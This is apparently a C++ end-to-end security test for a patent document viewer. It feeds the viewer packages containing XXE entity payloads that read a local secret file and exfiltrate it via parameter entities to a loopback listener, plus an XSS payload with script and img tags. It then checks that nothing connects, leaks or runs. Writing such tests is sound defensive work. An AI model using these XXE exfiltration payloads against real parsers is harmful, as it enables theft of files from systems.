// End-to-end: the real viewer, preparation tools and document opener, laid out as an
// installation, on packages whose documents try to reach a listener on 127.0.0.1 and to
// read a file outside every folder they may read. A recording browser keeps a copy of
// every page it is handed. TESSEL_E2E_PREFIX names an installed tree to test instead.
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>

#include <map>
#include <mutex>

#include "platform/fd.h"
#include "tests/archive/unzip/zip_fixtures.h"
#include "tests/e2e/viewer_fixture.h"

namespace {

using namespace tv::e2e;
using tv::test::ZipItem;

// Accepts every connection to a port of 127.0.0.1 and keeps what was sent, closing at
// once so a client waiting for an answer goes on.
class Listener {
  public:
    Listener() : fd_(socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0)) {
        sockaddr_in a{};
        a.sin_family = AF_INET;
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        socklen_t len = sizeof a;
        if (bind(fd_.Get(), reinterpret_cast<sockaddr*>(&a), len) == 0 &&
            listen(fd_.Get(), 16) == 0 &&
            getsockname(fd_.Get(), reinterpret_cast<sockaddr*>(&a), &len) == 0) {
            port_ = ntohs(a.sin_port);
        }
        thread_ = std::jthread([this](std::stop_token stop) {
            while (!stop.stop_requested()) {
                pollfd p{fd_.Get(), POLLIN, 0};
                if (poll(&p, 1, 20) > 0) {
                    Take(tv::UniqueFd(accept4(fd_.Get(), nullptr, nullptr, SOCK_CLOEXEC)));
                }
            }
        });
    }
    ~Listener() { thread_.request_stop(), thread_.join(); }
    int Port() const { return port_; }
    std::vector<std::string> Requests() {
        std::lock_guard lock(mutex_);
        return requests_;
    }

  private:
    void Take(tv::UniqueFd c) {
        if (!c.Valid()) {
            return;
        }
        std::string got = "connection: ";
        char buf[4096];
        for (pollfd p{c.Get(), POLLIN, 0}; poll(&p, 1, 200) > 0;) {
            const ssize_t n = read(c.Get(), buf, sizeof buf);
            if (n <= 0) {
                break;
            }
            got.append(buf, n);
        }
        std::lock_guard lock(mutex_);
        requests_.push_back(got);
    }

    tv::UniqueFd fd_;
    int port_ = 0;
    std::mutex mutex_;
    std::vector<std::string> requests_;
    std::jthread thread_;
};

constexpr const char* kSgmlHead =
    "<!DOCTYPE PATDOC PUBLIC \"-//TESSEL//DTD Patent Grant SGML V2.4//EN\" [\n";
constexpr const char* kSgmlBody =
    "]>\n<PATDOC><SDOBI><B100><B110><DNUM><PDAT>1&x;</SDOBI></PATDOC>\n";
constexpr const char* kXmlHead =
    "<?xml version=\"1.0\"?>\n<!DOCTYPE patent-grant SYSTEM \"patent-grant-v1-0.dtd\" [\n";
constexpr const char* kXmlBody =
    "]>\n<patent-grant lang=\"EN\"><bibliographic-data><invention-title>TITLE</invention-title>"
    "</bibliographic-data><description><p>TEXT</p></description><claims/></patent-grant>\n";

// Reads the outside file through parameter entities, into a text entity and an address.
constexpr const char* kStealing =
    "<!ENTITY % secret SYSTEM \"file://SECRET\">\n<!ENTITY % steal SYSTEM \"steal.ent\">\n"
    "%steal;\n";
constexpr const char* kSteal =
    "<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:PORT/?%secret;'>\">\n"
    "%wrap;\n%send;\n<!ENTITY leak \"%secret;\">\n";

// One package per row. In the texts PORT is the listener's port, SECRET the outside file.
// An SGML main document is refused by the conversion (its line on standard error), an XML
// one is shown, or refused on a page naming the rule.
struct Hostile {
    const char* name;  // the package's base name
    std::string subset;
    std::string text = {};  // XML: the paragraph; SGML when empty
    std::vector<ZipItem> extra = {};
    const char* pageHolds = nullptr;  // the page handed for NAME.xml
};

const Hostile kPackages[] = {
    {"US11", "<!ENTITY x SYSTEM \"<URL>http://127.0.0.1:PORT/a\">\n"},
    {"US12", "<!ENTITY x SYSTEM \"http://127.0.0.1:PORT/b\">\n"},
    {"US13", "<!ENTITY x SYSTEM \"SECRET\">\n"},
    {"US14",
     "<!ENTITY % s SYSTEM \"SECRET\">\n"
     "<!ENTITY % u \"<!ENTITY x SYSTEM 'http://127.0.0.1:PORT/?%s;'>\">\n%u;\n"},
    {"US21", kStealing, "&leak;", {{"steal.ent", kSteal}}, "Refused by the rule"},
    {"US22",
     "",
     "Formula <maths id=\"M1\"><math><mi>x</mi><img src=\"http://127.0.0.1:PORT/x\"/>"
     "<script>alert(1)</script></math></maths>",
     {},
     "<title>TITLE</title>"},
};

std::string Fill(std::string text, const std::map<std::string, std::string>& values) {
    for (const auto& [key, value] : values) {
        for (auto at = text.find(key); at != std::string::npos; at = text.find(key, at)) {
            text.replace(at, key.size(), value);
            at += value.size();
        }
    }
    return text;
}

bool Holds(const std::string& text, const std::string& part) {
    return text.find(part) != std::string::npos;
}

// Table pages are UTF-16.
bool HoldsAscii(const std::string& text, const std::string& part) {
    std::string wide;
    for (char c : part) {
        wide += {c, '\0'};
    }
    return Holds(text, part) || Holds(text, wide);
}

class HostilePackages : public ViewerProcess {
  protected:
    void SetUp() override {
        ViewerProcess::SetUp();
        fs::path prefix = root_ / "prefix";
        if (const char* other = std::getenv("TESSEL_E2E_PREFIX"); other && *other) {
            prefix = other;
            viewer_ = prefix / "bin/tessel-viewer";
        } else {
            LayOut(prefix);
        }
        const fs::path app = prefix / "lib/tessel-viewer/";
        fs::create_directories(root_ / "outside");
        fs::create_directories(root_ / "handed");
        secret_ = root_ / "outside/secret.txt";
        std::ofstream(secret_) << kSecret;
        // The browser: a copy of each page, since the working folder goes when the viewer ends.
        std::ofstream(root_ / "browser")
            << "#!/bin/sh\nn=$(basename \"$1\")\ncp -- \"$1\" \"" << (root_ / "handed").string()
            << "/.$n\" && mv -- \"" << (root_ / "handed").string() << "/.$n\" \""
            << (root_ / "handed").string() << "/$n\"\n";
        fs::permissions(root_ / "browser", fs::perms::owner_all);
        extraEnv_ = {"BROWSER=" + (root_ / "browser").string()};
        std::ofstream(hive_)
            << "REGEDIT4\n\n[HKEY_CURRENT_USER\\SOFTWARE\\Norvane\\Tessel Viewer]\n"
            << "\"AppPath\"=\"" << app.string() << "\"\n"
            << "\"AppDataPath\"=\"" << (prefix / "share/tessel-viewer/").string() << "\"\n"
            << "\"IE11Path\"=\"" << (app / "tessel-open").string() << "\"\n";
    }

    // What `cmake --install` makes of this build, as far as a render needs it: the opener
    // finds the DTD folder from its own place, so the programs are copies, not links.
    static void LayOut(const fs::path& prefix) {
        const fs::path app = prefix / "lib/tessel-viewer";
        fs::create_directories(app / "Perl");
        fs::create_directories(app / "XslShelf");
        fs::copy_file(TESSEL_OPEN_BINARY, app / "tessel-open");
        for (const char* tool : {"PathMend", "DtdStrip", "SgmlLift24"}) {
            fs::copy_file(fs::path(TESSEL_PREP_DIR) / tool, app / "Perl" / tool);
        }
        fs::copy_file(TESSEL_CALS_XSL, app / "XslShelf/cals.xsl");
        fs::create_directories(prefix / "share/tessel-viewer");
        fs::copy(TESSEL_DTD_DIR, prefix / "share/tessel-viewer/DTDs", fs::copy_options::recursive);
    }

    bool WaitForPages(const std::vector<std::string>& names, std::chrono::seconds limit) {
        const auto end = std::chrono::steady_clock::now() + limit;
        auto all = [&] {
            return std::all_of(names.begin(), names.end(),
                               [&](const auto& n) { return fs::exists(root_ / "handed" / n); });
        };
        while (!all() && std::chrono::steady_clock::now() < end) {
            std::this_thread::sleep_for(std::chrono::milliseconds(50));
        }
        return all();
    }

    static constexpr const char* kSecret = "Tessel0utsideSecret";
    fs::path secret_;
};

TEST_F(HostilePackages, NothingConnectsNothingOutsideIsShownAndTheRenderEnds) {
    Listener listener;
    ASSERT_NE(listener.Port(), 0);
    std::map<std::string, std::string> values = {{"PORT", std::to_string(listener.Port())},
                                                 {"SECRET", secret_.string()}};
    std::vector<std::string> args, sgmlArgs, pages = {"sentinel.xml"};
    for (const Hostile& h : kPackages) {
        const bool sgml = h.text.empty();
        std::vector<ZipItem> items = h.extra;
        for (ZipItem& item : items) {
            item.data = Fill(item.data, values);
        }
        values["TITLE"] = h.name;
        const std::string body = sgml ? kSgmlBody : Fill(kXmlBody, {{"TEXT", h.text}});
        items.push_back({h.name + std::string(sgml ? ".sgm" : ".xml"),
                         Fill((sgml ? kSgmlHead : kXmlHead) + h.subset + body, values)});
        auto& into = sgml ? sgmlArgs : args;
        into.push_back((root_ / (h.name + std::string(".zip"))).string());
        tv::test::WriteZip(into.back(), items);
        if (h.pageHolds != nullptr) {
            pages.push_back(h.name + std::string(".xml.html"));
        }
    }
    // A loose file: once it is handed, every package before it was rendered.
    args.push_back((root_ / "sentinel.xml").string());
    std::ofstream(args.back()) << "<note>end</note>";

    // Last, a loose table file the viewer itself turns into a page; its refusal's message
    // waits for an answer, so nothing after it would run.
    fs::create_directories(root_ / "loose");
    std::ofstream(root_ / "loose/steal.ent") << Fill(kSteal, values);
    args.push_back((root_ / "loose/T5.xml").string());
    std::ofstream(args.back()) << Fill(std::string("<!DOCTYPE table [\n") + kStealing +
                                           "]>\n<table><tgroup cols=\"1\"><tbody><row><entry>"
                                           "&leak;</entry></row></tbody></tgroup></table>\n",
                                       values);
    // Nothing the viewer wrote or was handed holds the secret; asked while it still runs,
    // since it empties its working folder when it closes.
    auto noSecretWritten = [this] {
        for (const char* folder : {"home", "handed"}) {
            for (const auto& f : fs::recursive_directory_iterator(root_ / folder)) {
                EXPECT_FALSE(f.is_regular_file() && HoldsAscii(ReadFile(f.path()), kSecret)) << f;
            }
        }
    };
    const auto start = std::chrono::steady_clock::now();

    // A refused SGML document ends in a message, which waits for an answer: one run each.
    for (const std::string& package : sgmlArgs) {
        const std::string name = fs::path(package).stem();
        SCOPED_TRACE(name);
        Start({package});
        EXPECT_TRUE(
            WaitForStderr("message: Tessel Viewer: \\n" + name + ".sgm could not be converted"))
            << ReadFile(stderr_);
        const std::string err = ReadFile(stderr_);
        EXPECT_TRUE(Holds(err, "/" + name + ".sgm: not converted: refused to read")) << err;
        EXPECT_FALSE(fs::exists(root_ / "home/Documents/MyTessel" / name / (name + ".xml")));
        noSecretWritten();
        kill(pid_, SIGTERM);
        EXPECT_EQ(WaitForExit(std::chrono::seconds(10)), 0);
    }

    Start(args);
    EXPECT_TRUE(WaitForPages(pages, std::chrono::seconds(40))) << ReadFile(stderr_);
    EXPECT_TRUE(WaitForStderr("are read: " + secret_.string())) << ReadFile(stderr_);
    std::this_thread::sleep_for(std::chrono::milliseconds(500));  // stray pages, late requests

    EXPECT_EQ(listener.Requests(), std::vector<std::string>{});
    for (const Hostile& h : kPackages) {
        if (h.pageHolds == nullptr) {
            continue;
        }
        SCOPED_TRACE(h.name);
        const std::string page = ReadFile(root_ / "handed" / (h.name + std::string(".xml.html")));
        EXPECT_TRUE(Holds(page, Fill(h.pageHolds, {{"TITLE", h.name}}))) << page;
        for (const char* never : {"127.0.0.1", "<script", "<img"}) {
            EXPECT_FALSE(Holds(page, never)) << never << "\n" << page;
        }
    }
    EXPECT_TRUE(Holds(ReadFile(stderr_), "message: Error loading the XML: ")) << ReadFile(stderr_);
    noSecretWritten();

    kill(pid_, SIGTERM);
    EXPECT_EQ(WaitForExit(std::chrono::seconds(10)), 0);
    EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(30));
    EXPECT_FALSE(fs::exists(root_ / "home/Documents/MyTessel/US22"));
}

}  // namespace
